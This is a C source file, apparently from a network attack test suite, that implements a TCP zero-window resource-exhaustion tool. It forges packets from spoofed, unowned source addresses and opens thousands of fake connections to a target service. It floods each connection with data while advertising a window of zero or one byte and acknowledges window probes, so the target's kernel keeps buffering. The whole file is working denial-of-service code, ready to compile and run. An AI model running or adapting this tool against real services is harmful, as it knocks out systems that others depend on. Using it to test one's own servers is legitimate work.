/* SPDX-License-Identifier: MIT */
/*
 * Peers of a TCP service that take next to nothing: each sends as much as it
 * may and keeps its window at zero, or at a byte.  They acknowledge whatever
 * comes, so that the service's kernel takes them for alive.
 *
 *     trickle WINDOW COUNT HOST PORT SOURCE DEVICE SECONDS
 *
 * There is no kernel behind them: sources are addresses from SOURCE on that
 * nobody has, and whose packets are routed to DEVICE, where they are picked up.
 *
 *     SYN ►  ◄ SYN+ACK  data ►  ◄ data, or a probe of the window  ACK ►  ...
 *
 * SIGTERM ends it early.  Prints how many came to be connected, were reset and
 * were ended, and how many bytes they took.
 */
#include "config.h"

#include "attacks/packet.h"

#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#define COUNT_MAX    60000
#define RATE	     2000 /* connections a second */
#define PORT	     40000
#define SEQUENCE     UINT32_C(1000)
#define ENOUGH	     (1 << 20) /* bytes, more than the service can hold */
#define NSEC_PER_SEC UINT64_C(1000000000)
#define RECEIVED_MAX 65536
#define QUEUE_SIZE   (8 << 20)

struct peer {
	uint32_t expected; /* the next byte of the service */
	uint32_t next;	   /* and of the peer */
	bool connected, over;
};

struct crowd {
	struct packet_end target;
	in_addr_t first; /* in the host's order */
	uint32_t count;
	uint16_t window;
	int out, in;
	uint64_t asked, connected, reset, ended, taken;
};

static struct peer peers[COUNT_MAX];
static volatile sig_atomic_t over;

static void on_signal(int number)
{
	(void)number;
	over = 1;
}

static void send_segment(const struct crowd *crowd, uint32_t index,
			 const struct packet_segment *segment)
{
	static struct packet packet;
	const struct packet_end source = { htonl(crowd->first + index),
					   htons(PORT) };
	const struct sockaddr_in name = {
		.sin_family = AF_INET,
		.sin_addr.s_addr = crowd->target.address,
	};
	size_t length =
		packet_make_tcp(&packet, source, crowd->target, segment);

	if (sendto(crowd->out, &packet, length, 0,
		   (const struct sockaddr *)&name, sizeof(name)) < 0 &&
	    errno != ENOBUFS && errno != EINTR)
		packet_die("sendto");
}

/* In answer to something, at the place where it stands. */
static void say(const struct crowd *crowd, uint32_t index, size_t length)
{
	send_segment(crowd, index,
		     &(struct packet_segment){
			     .sequence = peers[index].next,
			     .acknowledged = peers[index].expected,
			     .flags = TH_ACK,
			     .window = crowd->window,
			     .length = length,
		     });
	peers[index].next += (uint32_t)length;
}

/* As much as the service has room for, until it has taken enough. */
static void say_more(const struct crowd *crowd, uint32_t index,
		     uint32_t acknowledged, uint32_t window)
{
	const struct peer *peer = &peers[index];

	while (peer->next - SEQUENCE < ENOUGH &&
	       peer->next - acknowledged + PACKET_DATA_MAX <= window)
		say(crowd, index, PACKET_DATA_MAX);
}

static void on_connected(struct crowd *crowd, uint32_t index,
			 const struct tcphdr *tcp)
{
	struct peer *peer = &peers[index];

	if (!peer->connected) {
		peer->connected = true;
		peer->expected = ntohl(tcp->th_seq) + 1;
		peer->next = SEQUENCE + 1;
		crowd->connected++;
	}
	say(crowd, index, 0);
	say_more(crowd, index, ntohl(tcp->th_ack), ntohs(tcp->th_win));
}

/* A probe of the window has no data, or data out of turn. */
static void on_segment(struct crowd *crowd, uint32_t index,
		       const struct tcphdr *tcp, size_t length)
{
	struct peer *peer = &peers[index];
	bool in_turn = ntohl(tcp->th_seq) == peer->expected;

	if (length > 0 && in_turn) {
		length = length < crowd->window ? length : crowd->window;
		peer->expected += (uint32_t)length;
		crowd->taken += length;
		say(crowd, index, 0);
	} else if (!in_turn) {
		say(crowd, index, 0);
	}
	say_more(crowd, index, ntohl(tcp->th_ack), ntohs(tcp->th_win));
}

static void on_over(uint64_t *counter, uint32_t index)
{
	*counter += !peers[index].over;
	peers[index].over = true;
}

static void take(struct crowd *crowd, const uint8_t *data, size_t length)
{
	struct iphdr ip;
	struct tcphdr tcp;
	size_t headers;
	uint32_t index;

	if (length < sizeof(ip) + sizeof(tcp))
		return;
	memcpy(&ip, data, sizeof(ip));
	memcpy(&tcp, data + sizeof(ip), sizeof(tcp));
	headers = sizeof(ip) + 4 * (size_t)tcp.th_off;
	index = ntohl(ip.daddr) - crowd->first;
	if (ip.ihl != 5 || ip.protocol != IPPROTO_TCP ||
	    ip.saddr != crowd->target.address ||
	    tcp.th_sport != crowd->target.port || index >= crowd->count ||
	    ntohs(ip.tot_len) < headers)
		return;
	if (tcp.th_flags & TH_RST)
		on_over(&crowd->reset, index);
	else if (tcp.th_flags & TH_SYN)
		on_connected(crowd, index, &tcp);
	else if (tcp.th_flags & TH_FIN)
		on_over(&crowd->ended, index);
	else
		on_segment(crowd, index, &tcp, ntohs(ip.tot_len) - headers);
}

static void take_all(struct crowd *crowd)
{
	static uint8_t data[RECEIVED_MAX];
	ssize_t length;

	while ((length = recv(crowd->in, data, sizeof(data), MSG_DONTWAIT)) > 0)
		take(crowd, data, (size_t)length);
}

static void run(struct crowd *crowd, uint64_t seconds)
{
	uint64_t begin = packet_now(), passed;
	const struct packet_segment syn = {
		.sequence = SEQUENCE,
		.flags = TH_SYN,
		.window = crowd->window,
	};

	while (!over &&
	       (passed = packet_now() - begin) < seconds * NSEC_PER_SEC) {
		struct pollfd in = { .fd = crowd->in, .events = POLLIN };

		for (; crowd->asked < crowd->count &&
		       crowd->asked < passed * RATE / NSEC_PER_SEC;
		     crowd->asked++)
			send_segment(crowd, (uint32_t)crowd->asked, &syn);
		(void)poll(&in, 1, 1);
		take_all(crowd);
	}
}

/* Takes in what comes to the device, for whomever. */
static int listen_on(const char *device)
{
	const struct sockaddr_ll name = {
		.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_IP),
		.sll_ifindex = (int)if_nametoindex(device),
	};
	const int size = QUEUE_SIZE;
	int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (fd < 0 ||
	    setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &size, sizeof(size)) <
		    0 ||
	    bind(fd, (const struct sockaddr *)&name, sizeof(name)) < 0)
		packet_die(device);
	return fd;
}

int main(int argc, char *argv[])
{
	const struct sigaction action = { .sa_handler = on_signal };
	struct crowd crowd = { 0 };

	if (argc != 8) {
		fputs("Usage: trickle WINDOW COUNT HOST PORT SOURCE DEVICE "
		      "SECONDS\n",
		      stderr);
		return 2;
	}
	sigaction(SIGTERM, &action, NULL);
	crowd.window = (uint16_t)strtoul(argv[1], NULL, 10);
	crowd.count = (uint32_t)strtoul(argv[2], NULL, 10);
	errno = EINVAL;
	if (crowd.count > COUNT_MAX)
		packet_die(argv[2]);
	crowd.target = packet_end_of(argv[3], argv[4]);
	crowd.first = ntohl(packet_end_of(argv[5], "0").address);
	crowd.in = listen_on(argv[6]);
	crowd.out = packet_socket();
	run(&crowd, strtoull(argv[7], NULL, 10));
	printf("{\"asked\":%" PRIu64 ",\"connected\":%" PRIu64
	       ",\"reset\":%" PRIu64 ",\"ended\":%" PRIu64 ",\"taken\":%" PRIu64
	       "}\n",
	       crowd.asked, crowd.connected, crowd.reset, crowd.ended,
	       crowd.taken);
	return 0;
}
